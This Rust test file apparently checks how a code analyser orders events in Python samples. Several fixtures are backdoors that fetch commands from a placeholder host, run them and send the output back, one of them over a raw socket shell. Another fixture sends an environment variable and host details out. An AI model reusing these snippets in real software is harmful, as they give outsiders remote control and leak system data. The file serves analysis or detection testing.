//! Claims about the order of events: which of two calls of one place happened first.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::{calls, events_of};
use venin_model::Role;

#[test]
fn a_helper_that_asks_and_answers_is_two_events_with_the_command_between_them() {
    for source in [
        "\
import json, os, urllib.request
def call(method, **p):
    with urllib.request.urlopen('https://a.invalid/' + method, json.dumps(p).encode()) as r:
        return json.load(r)
while True:
    for u in call('updates', timeout=30):
        call('send', text=os.popen(u['text']).read())
",
        "\
import os, requests
class Bot:
    def call(self, method, **p):
        return requests.post('https://a.invalid/' + method, json=p).json()
    def loop(self):
        for u in self.call('updates'):
            self.call('send', text=os.popen(u['text']).read())
Bot().loop()
",
        "\
import os, socket
s = socket.create_connection(('192.0.2.3', 4))
def say(x):
    s.sendall(x)
    return s.recv(100)
order = say(b'hello')
while True:
    order = say(os.popen(order.decode()).read().encode())
",
    ] {
        let events = events_of(source);
        let command = events.iter().position(|e| &*e.name == "os.popen").expect("a command runs");
        let name = if source.contains("requests") { "requests.post" } else { "urllib.request.urlopen" };
        let name = if source.contains("sendall") { "socket.socket().sendall" } else { name };
        let sends: Vec<usize> =
            events.iter().enumerate().filter(|(_, e)| &*e.name == name).map(|(at, _)| at).collect();
        assert_eq!(sends.len(), 2, "{source}");
        assert!(sends[0] < command && command < sends[1], "{source}");
        let output = events[sends[1]].input.events.contains(&events[command].id);
        assert!(output && !events[sends[0]].input.events.contains(&events[command].id), "{source}");
    }
}

#[test]
fn a_call_that_sends_nothing_new_stays_one_event() {
    let source = "\
import requests
def page(at, token=None):
    return requests.post('https://a.invalid/' + at, json={'token': token}).json()
token = None
while True:
    token = page('next', token)['token']
page('last', token)
";
    assert_eq!(calls(source), ["requests.post"]);
}

#[test]
fn a_place_is_two_events_at_most() {
    let source = "\
import os, requests
def tell(what):
    requests.post('https://a.invalid', json=what)
tell('up')
tell(os.getenv('A'))
tell(os.uname())
tell(open('/etc/hostname').read())
";
    let posts = calls(source).into_iter().filter(|name| name == "requests.post");
    assert_eq!(posts.count(), 2);
}

#[test]
fn what_a_function_does_once_it_does_for_whoever_calls_it_first() {
    for guard in [
        "global done\n    if done:\n        return\n    done = True",
        "global count\n    count += 1\n    if count > 1:\n        return",
    ] {
        let source = format!(
            "import os\ndone = False\ncount = 0\n\
             def once(line):\n    {guard}\n    os.system(line)\n\
             class Graph:\n    def __init__(self):\n        once('echo')\n"
        );
        let events = events_of(&source);
        let lines: Vec<_> = events.iter().filter_map(|e| e.text(Role::Command)).collect();
        assert!(lines.contains(&"echo"), "{guard}: {lines:?}");
    }
}
